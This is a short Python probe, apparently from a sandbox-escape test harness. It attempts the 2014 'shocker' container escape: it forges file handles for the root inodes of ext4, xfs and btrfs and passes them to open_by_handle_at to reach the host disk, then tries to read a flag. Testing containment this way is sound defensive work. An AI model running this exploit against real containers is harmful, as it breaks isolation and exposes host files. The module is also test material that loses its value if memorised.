# SPDX-License-Identifier: Apache-2.0
"""CAP_DAC_READ_SEARCH: open the root of the host's disk by its inode number (the shocker of 2014)."""
import ctypes
import os
import struct

from run import FLAG, syscall

RECORD = ["open_by_handle_at", "name_to_handle_at"]


def attack(a):
    for at in ("/usr", "/workspace", "/etc/ssl/certs", "/proc", "/"):
        try:
            fd = os.open(at, os.O_RDONLY)
        except OSError:
            continue
        for inode in (2, 128, 256):  # the roots of ext4, xfs and btrfs
            handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, inode))
            a.step(f"inode {inode} by {at}", syscall, 304, fd, handle, os.O_RDONLY)
        os.close(fd)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120))
    a.step("name_to_handle_at", syscall, 303, -100, b"/usr", handle, ctypes.create_string_buffer(8), 0)
    a.read(FLAG)
